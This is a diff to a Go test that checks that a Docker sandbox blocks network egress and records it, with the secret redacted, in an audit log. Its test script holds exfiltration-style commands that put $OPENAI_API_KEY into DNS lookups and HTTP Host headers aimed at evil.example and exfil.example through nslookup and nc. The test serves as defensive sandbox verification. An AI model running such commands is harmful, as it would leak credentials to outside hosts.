@@ -30,8 +30,8 @@ func TestDocker_BlockedEgressInTheAuditRecord(t *testing.T) {
 			// Busybox's nslookup and nc: the lookups are refused and the
 			// connections reset by the observer, each at once; the HTTP
 			// request's Host (which carries the secret) is read, then reset.
-			script := `nslookup pypi.org; nslookup "$OPENAI_API_KEY.evil.example"; nc -w 2 1.1.1.1 22 </dev/null
-printf 'GET / HTTP/1.1\r\nHost: %s.exfil.example\r\n\r\n' "$OPENAI_API_KEY" | nc -w 2 1.1.1.1 80; echo done`
+			script := `nslookup pypi.org; nslookup "$OPENAI_API_KEY.evil.example"; nc -w 2 198.18.7.1 22 </dev/null
+printf 'GET / HTTP/1.1\r\nHost: %s.exfil.example\r\n\r\n' "$OPENAI_API_KEY" | nc -w 2 198.18.7.1 80; echo done`
 			res, err := sb.Run(t.Context(), []string{"sh", "-c", script}, RunOptions{Timeout: 30 * time.Second})
 			if err != nil || !strings.HasSuffix(string(res.Stdout), "done\n") {
 				t.Fatalf("run: %+v %v", res, err)
@@ -59,7 +59,7 @@ printf 'GET / HTTP/1.1\r\nHost: %s.exfil.example\r\n\r\n' "$OPENAI_API_KEY" | nc
 			for _, d := range dests {
 				seen[strings.TrimSpace(d["kind"].(string)+" "+str(d["name"])+str(d["address"]))] = true
 			}
-			if n < 4 || !seen["dns pypi.org"] || !seen["dns [REDACTED].evil.example"] || !seen["tcp 1.1.1.1"] || !seen["http [REDACTED].exfil.example1.1.1.1"] {
+			if n < 4 || !seen["dns pypi.org"] || !seen["dns [REDACTED].evil.example"] || !seen["tcp 198.18.7.1"] || !seen["http [REDACTED].exfil.example198.18.7.1"] {
 				t.Fatalf("exec record: blocked_egress %v, destinations %v", run["blocked_egress"], dests)
 			}
 			if last := recs[len(recs)-1]; last["event"] != closeEvent(closeErr) || last["blocked_egress"].(float64) < n {
